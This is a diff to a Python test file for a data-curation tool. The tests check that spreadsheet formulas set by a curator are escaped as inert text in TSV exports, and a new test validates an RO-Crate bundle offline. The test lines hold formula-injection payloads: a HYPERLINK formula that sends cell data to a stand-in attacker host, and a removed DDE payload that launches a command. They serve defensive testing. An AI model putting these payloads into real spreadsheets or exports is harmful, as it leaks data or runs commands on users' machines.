@@ -216,7 +216,10 @@ def _cells(text: str) -> list[list[str]]:
 
 
 def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) -> None:
-    """Issue 13 item 3: a formula set by a curator is inert text in every TSV fairway writes."""
+    """Issue 13 item 3: a formula set by a curator is inert text in every TSV fairway writes.
+
+    (A hostile channel name in file_list.tsv: tests/targets/test_bia.py.)
+    """
     dataset = _dataset(home, "l.ome.tif")
     fixed = runner.invoke(
         app,
@@ -227,8 +230,6 @@ def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) 
             dataset,
             "--set",
             f"study.keywords[4]={FORMULA}",
-            "--set",
-            "channels[0].name=@SUM(1+1)*cmd|' /C calc'!A0",
             "--reason",
             "test",
         ],
@@ -239,7 +240,6 @@ def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) 
     file_list = (folder / "file_list.tsv").read_text(encoding="utf-8")
     # OWASP: a single quote before the formula, the cell quoted, inner quotes doubled
     assert '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"' in submission
-    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0" in file_list
     for text in (submission, file_list):
         for row in _cells(text):
             for cell in row:
@@ -247,4 +247,16 @@ def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) 
     keywords = dict(_pagetab_sections(submission))["Study"]["Keywords"]
     assert len(keywords) == 5  # the four of the sidecar and the curator's
     assert keywords[4] == '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"'
-    assert [r[4] for r in _cells(file_list)][1].startswith("'@SUM(1+1)")
+
+
+def test_bundle_crate_passes_roc_validator(home: Path, tmp_path: Path) -> None:
+    """Issue 13 item 12: the `get` bundle's RO-Crate, checked offline with roc-validator."""
+    from tests.targets.test_archive import check_crate
+
+    dataset = _dataset(home, "a.ome.tif")
+    result = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path / "b")])
+    assert result.exit_code == 0, result.output
+    check_crate(tmp_path / "b" / dataset, tmp_path / "cache")
+    archived = home / "archive" / dataset / "data"
+    assert archived.is_dir()
+    check_crate(archived, tmp_path / "cache")
